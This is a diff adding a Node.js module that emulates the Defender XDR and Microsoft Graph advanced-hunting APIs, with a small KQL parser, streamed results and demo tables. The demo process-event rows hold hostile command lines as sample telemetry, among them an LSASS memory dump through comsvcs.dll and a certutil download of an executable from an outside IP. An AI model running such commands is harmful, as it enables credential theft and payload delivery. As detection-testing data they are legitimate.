@@ -1,0 +1,355 @@
+// @ts-check
+'use strict';
+// Advanced hunting on both APIs with a tiny KQL subset:
+//   Table | where Col == "x" (==, !=, =~, !~) | take N | limit N | project a, b | count
+// Results are streamed in chunks so that generated tables of 100,000 rows stay cheap.
+const { HttpError, toApiTime } = require('./util');
+
+const TYPES = ['String', 'DateTime', 'Int32', 'Int64', 'Double', 'Boolean', 'Dynamic', 'Guid'];
+const MAX_ROWS = 100_000;
+
+/**
+ * @typedef {{ name: string, type: string }} Column
+ * @typedef {Record<string, unknown>} Row
+ * @typedef {{ name: string, schema: Column[], rowCount: number, row: (i: number) => Row }} Table
+ * @typedef {{ schema: Column[], rows?: Row[], rowCount?: number, row?: (i: number) => Row }} TableSpec
+ *   explicit `rows`, or `rowCount` with a `row(i)` generator (or with synthetic values when `row` is absent)
+ * @typedef {{ kind: string, text: string, value?: unknown, line: number, col: number }} Token
+ */
+
+/** @param {string} query @returns {Token[]} */
+function tokenize(query) {
+	/** @type {Token[]} */
+	const tokens = [];
+	let line = 1;
+	let col = 1;
+	let i = 0;
+	const take = (/** @type {string} */ kind, /** @type {string} */ text, /** @type {unknown} */ value) => {
+		tokens.push({ kind, text, value, line, col });
+		i += text.length;
+		col += text.length;
+	};
+	while (i < query.length) {
+		const rest = query.slice(i);
+		let m;
+		if (query[i] === '\n') {
+			i++;
+			line++;
+			col = 1;
+		} else if ((m = /^[ \t\r]+|^\/\/[^\n]*/.exec(rest))) {
+			i += m[0].length;
+			col += m[0].length;
+		} else if ((m = /^[A-Za-z_][A-Za-z0-9_]*/.exec(rest))) {
+			take('ident', m[0], m[0]);
+		} else if ((m = /^\d+(\.\d+)?/.exec(rest))) {
+			take('number', m[0], Number(m[0]));
+		} else if ((m = /^"((?:[^"\\\n]|\\.)*)"|^'((?:[^'\\\n]|\\.)*)'/.exec(rest))) {
+			take('string', m[0], (m[1] ?? m[2]).replace(/\\(.)/g, '$1'));
+		} else if ((m = /^(==|!=|=~|!~|\||,)/.exec(rest))) {
+			take('op', m[0], m[0]);
+		} else {
+			take('other', query[i], query[i]);
+		}
+	}
+	tokens.push({ kind: 'eof', text: '', line, col });
+	return tokens;
+}
+
+/** @param {Token} token */
+const parseError = (token) => new HttpError(400, 'BadRequest', `Query could not be parsed at '${token.text}' on line [${token.line},${token.col}]`);
+/** @param {Token} token */
+const unresolved = (token) => new HttpError(400, 'BadRequest', `Failed to resolve table or column expression named '${token.text}' on line [${token.line},${token.col}]`);
+
+/**
+ * Parses and plans a query against the tenant's tables; every error surfaces here, before
+ * the answer starts streaming.
+ * @param {string} query @param {Map<string, Table>} tables
+ * @returns {{ table: Table, schema: Column[], rows: () => Iterable<Row> }}
+ */
+function plan(query, tables) {
+	const tokens = tokenize(query);
+	let pos = 0;
+	const next = () => tokens[pos++];
+	/** @param {string} kind */
+	const expect = (kind) => {
+		const token = next();
+		if (token.kind !== kind) throw parseError(token);
+		return token;
+	};
+
+	const tableToken = expect('ident');
+	const table = tables.get(tableToken.text);
+	if (!table) throw unresolved(tableToken);
+	let schema = table.schema;
+	/** @type {(rows: Iterable<Row>) => Iterable<Row>} */
+	let pipeline = (rows) => rows;
+	/** @param {Token} token */
+	const column = (token) => {
+		const found = schema.find((c) => c.name === token.text);
+		if (!found) throw unresolved(token);
+		return found.name;
+	};
+	/** @param {(rows: Iterable<Row>) => Iterable<Row>} stage */
+	const then = (stage) => {
+		const previous = pipeline;
+		pipeline = (rows) => stage(previous(rows));
+	};
+
+	while (tokens[pos].kind !== 'eof') {
+		if (next().text !== '|') throw parseError(tokens[pos - 1]);
+		const operator = expect('ident');
+		if (operator.text === 'where') {
+			const name = column(expect('ident'));
+			const opToken = next();
+			if (!['==', '!=', '=~', '!~'].includes(opToken.text)) throw parseError(opToken);
+			const literal = next();
+			const known = { true: true, false: false };
+			if (!(literal.kind === 'string' || literal.kind === 'number' || literal.text in known)) throw parseError(literal);
+			const expected = literal.kind === 'ident' ? known[/** @type {'true' | 'false'} */ (literal.text)] : literal.value;
+			const caseless = opToken.text.includes('~');
+			const negate = opToken.text.startsWith('!');
+			const equals = (/** @type {unknown} */ v) =>
+				caseless ? String(v).toLowerCase() === String(expected).toLowerCase() : typeof expected === 'string' ? String(v) === expected : v === expected;
+			then(function* (rows) {
+				for (const row of rows) if (equals(row[name]) !== negate) yield row;
+			});
+		} else if (operator.text === 'take' || operator.text === 'limit') {
+			const n = expect('number');
+			if (!Number.isInteger(n.value)) throw parseError(n);
+			const limit = /** @type {number} */ (n.value);
+			then(function* (rows) {
+				if (limit <= 0) return;
+				let taken = 0;
+				for (const row of rows) {
+					yield row;
+					if (++taken >= limit) return;
+				}
+			});
+		} else if (operator.text === 'project') {
+			const names = [column(expect('ident'))];
+			while (tokens[pos].text === ',') {
+				pos++;
+				names.push(column(expect('ident')));
+			}
+			schema = names.map((n) => /** @type {Column} */ (schema.find((c) => c.name === n)));
+			then(function* (rows) {
+				for (const row of rows) yield Object.fromEntries(names.map((n) => [n, row[n]]));
+			});
+		} else if (operator.text === 'count') {
+			schema = [{ name: 'Count', type: 'Int64' }];
+			then(function* (rows) {
+				let count = 0;
+				for (const _ of rows) count++;
+				yield { Count: count };
+			});
+		} else {
+			throw parseError(operator);
+		}
+	}
+
+	const finalSchema = schema;
+	const run = pipeline;
+	return {
+		table,
+		schema: finalSchema,
+		*rows() {
+			let emitted = 0;
+			for (const row of run(scan(table))) {
+				if (emitted++ >= MAX_ROWS) return; // the services cap a result at 100,000 rows
+				yield Object.fromEntries(finalSchema.map((c) => [c.name, row[c.name] ?? null]));
+			}
+		},
+	};
+}
+
+/** @param {Table} table */
+function* scan(table) {
+	for (let i = 0; i < table.rowCount; i++) yield table.row(i);
+}
+
+/** Synthetic value of a generated table's cell. @param {Column} column @param {number} i */
+function syntheticValue(column, i) {
+	switch (column.type) {
+		case 'DateTime': return toApiTime(Date.UTC(2026, 0, 1) + i * 1000);
+		case 'Int32': case 'Int64': return i;
+		case 'Double': return i + 0.5;
+		case 'Boolean': return i % 2 === 0;
+		case 'Guid': return `00000000-0000-4000-8000-${i.toString(16).padStart(12, '0')}`;
+		case 'Dynamic': return JSON.stringify({ index: i });
+		default: return `${column.name}-${i}`;
+	}
+}
+
+/** @param {string} name @param {TableSpec} spec @returns {Table} */
+function toTable(name, spec) {
+	if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) throw new Error(`Invalid table name: ${name}`);
+	const schema = spec.schema.map(({ name: columnName, type }) => {
+		if (!TYPES.includes(type)) throw new Error(`Column ${columnName}: unknown type ${type} (use ${TYPES.join(', ')})`);
+		return { name: columnName, type };
+	});
+	if (spec.rows) {
+		const rows = spec.rows;
+		return { name, schema, rowCount: rows.length, row: (i) => rows[i] };
+	}
+	const row = spec.row ?? ((i) => Object.fromEntries(schema.map((c) => [c.name, syntheticValue(c, i)])));
+	return { name, schema, rowCount: spec.rowCount ?? 0, row };
+}
+
+/** A few rows per tenant so that hunting works out of the box (e.g. for the demo). */
+function defaultTables() {
+	const at = (/** @type {number} */ minutesAgo) => toApiTime(Date.now() - minutesAgo * 60_000);
+	const devices = [
+		['3f2a9c0d6e1b4a7f8c5d2e9b0a1c3d4e5f6a7b8c', 'ws-0101.contoso.local', 'Windows11', '20.61.10.4'],
+		['8b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c', 'ws-0102.contoso.local', 'Windows10', '20.61.10.5'],
+		['c0ffee00112233445566778899aabbccddeeff00', 'srv-db01.contoso.local', 'WindowsServer2022', '20.61.12.9'],
+	];
+	const processes = [
+		['powershell.exe', 'powershell.exe -enc SQBFAFgA', 'alice'],
+		['cmd.exe', 'cmd.exe /c whoami', 'bob'],
+		['rundll32.exe', 'rundll32.exe comsvcs.dll, MiniDump 624 lsass.dmp full', 'SYSTEM'],
+		['certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe', 'alice'],
+		['notepad.exe', 'notepad.exe C:\\Users\\carol\\notes.txt', 'carol'],
+	];
+	return new Map([
+		['DeviceInfo', toTable('DeviceInfo', {
+			schema: [
+				{ name: 'Timestamp', type: 'DateTime' }, { name: 'DeviceId', type: 'String' }, { name: 'DeviceName', type: 'String' },
+				{ name: 'OSPlatform', type: 'String' }, { name: 'PublicIP', type: 'String' }, { name: 'IsAzureADJoined', type: 'Boolean' },
+			],
+			rows: devices.map(([id, name, os, ip], i) => ({ Timestamp: at(10 + i), DeviceId: id, DeviceName: name, OSPlatform: os, PublicIP: ip, IsAzureADJoined: i < 2 })),
+		})],
+		['DeviceProcessEvents', toTable('DeviceProcessEvents', {
+			schema: [
+				{ name: 'Timestamp', type: 'DateTime' }, { name: 'DeviceId', type: 'String' }, { name: 'DeviceName', type: 'String' },
+				{ name: 'ActionType', type: 'String' }, { name: 'FileName', type: 'String' }, { name: 'ProcessCommandLine', type: 'String' },
+				{ name: 'ProcessId', type: 'Int64' }, { name: 'AccountName', type: 'String' }, { name: 'AdditionalFields', type: 'Dynamic' },
+			],
+			rows: processes.map(([file, cmd, account], i) => ({
+				Timestamp: at(60 - i * 5),
+				DeviceId: devices[i % devices.length][0],
+				DeviceName: devices[i % devices.length][1],
+				ActionType: 'ProcessCreated',
+				FileName: file,
+				ProcessCommandLine: cmd,
+				ProcessId: 4100 + i * 12,
+				AccountName: account,
+				AdditionalFields: JSON.stringify({ ProcessIntegrityLevel: i === 2 ? 'System' : 'Medium' }),
+			})),
+		})],
+	]);
+}
+
+/** Resolves once the response can take more data (or the client went away). @param {import('node:http').ServerResponse} res */
+function drained(res) {
+	return new Promise((resolve) => {
+		const done = () => {
+			res.off('drain', done);
+			res.off('close', done);
+			resolve(undefined);
+		};
+		res.on('drain', done);
+		res.on('close', done);
+	});
+}
+
+/**
+ * @param {import('node:http').ServerResponse} res
+ * @param {string} head JSON text up to the results array's opening bracket
+ * @param {Iterable<Row>} rows
+ * @param {(count: number, bytes: number) => string} tail JSON text after the array's closing bracket
+ */
+async function streamRows(res, head, rows, tail) {
+	res.writeHead(200, { 'content-type': 'application/json; charset=utf-8' });
+	let chunk = head;
+	let separator = '';
+	let count = 0;
+	let bytes = 0;
+	for (const row of rows) {
+		const text = JSON.stringify(row);
+		chunk += separator + text;
+		separator = ',';
+		count++;
+		bytes += text.length;
+		if (chunk.length >= 64 * 1024) {
+			const ok = res.write(chunk);
+			chunk = '';
+			if (!ok) await drained(res);
+			if (res.destroyed) return;
+		}
+	}
+	res.end(chunk + tail(count, bytes));
+}
+
+/** @param {string} seconds */
+const timeSpan = (seconds) => `00:00:${seconds.padStart(10, '0')}`;
+
+/**
+ * @param {{ apiBases: Record<'graph', string>, getTenant: (idOrDomain: string) => { id: string } }} options
+ */
+function createHunting({ apiBases, getTenant }) {
+	/** @type {Map<string, Map<string, Table>>} */
+	const tablesByTenant = new Map();
+
+	/** @param {string} tenantIdOrDomain */
+	function tablesOf(tenantIdOrDomain) {
+		const tenantId = getTenant(tenantIdOrDomain).id;
+		let tables = tablesByTenant.get(tenantId);
+		if (!tables) {
+			tables = defaultTables();
+			tablesByTenant.set(tenantId, tables);
+		}
+		return tables;
+	}
+
+	/** @param {string} tenantId @param {string} name @param {TableSpec} spec */
+	function setHuntingTable(tenantId, name, spec) {
+		tablesOf(tenantId).set(name, toTable(name, spec));
+	}
+
+	/** @param {import('./index').RouteContext} ctx */
+	async function queryOf(ctx) {
+		const body = await ctx.body();
+		const query = body.Query ?? body.query;
+		if (typeof query !== 'string' || !query.trim()) throw new HttpError(400, 'BadRequest', 'The query is empty: provide a KQL query in "Query".');
+		return plan(query, tablesOf(ctx.tenantId));
+	}
+
+	/** @type {import('./index').Route[]} */
+	const routes = [
+		{
+			api: 'xdr', method: 'POST', path: /^\/api\/advancedhunting\/run$/i, category: 'hunting', roles: ['AdvancedHunting.Read.All'],
+			handle: async (ctx) => {
+				const started = process.hrtime.bigint();
+				const { table, schema, rows } = await queryOf(ctx);
+				const head = `{"Schema":${JSON.stringify(schema.map((c) => ({ Name: c.name, Type: c.type })))},"Results":[`;
+				await streamRows(ctx.res, head, rows(), (count, bytes) => {
+					const seconds = (Number(process.hrtime.bigint() - started) / 1e9).toFixed(7);
+					const stats = {
+						ExecutionTime: Number(seconds),
+						resource_usage: {
+							cache: { memory: { hits: 0, misses: 0, total: 0 }, disk: { hits: 0, misses: 0, total: 0 } },
+							cpu: { user: timeSpan(seconds), kernel: '00:00:00', 'total cpu': timeSpan(seconds) },
+							memory: { peak_per_node: 16_777_216 + bytes },
+						},
+						input_dataset_statistics: { extents: { total: 1, scanned: 1 }, rows: { total: table.rowCount, scanned: table.rowCount } },
+						dataset_statistics: [{ table_row_count: count, table_size: bytes }],
+					};
+					return `],"Stats":${JSON.stringify(stats)}}`;
+				});
+			},
+		},
+		{
+			api: 'graph', method: 'POST', path: /^\/v1\.0\/security\/runHuntingQuery$/i, category: 'hunting', roles: ['ThreatHunting.Read.All'],
+			// Timespan is accepted and not applied: the emulated tables have no retention.
+			handle: async (ctx) => {
+				const { schema, rows } = await queryOf(ctx);
+				const head = `{"@odata.context":${JSON.stringify(`${apiBases.graph}/v1.0/$metadata#microsoft.graph.security.huntingQueryResults`)},"schema":${JSON.stringify(schema)},"results":[`;
+				await streamRows(ctx.res, head, rows(), () => ']}');
+			},
+		},
+	];
+
+	return { routes, setHuntingTable };
+}
+
+module.exports = { createHunting };
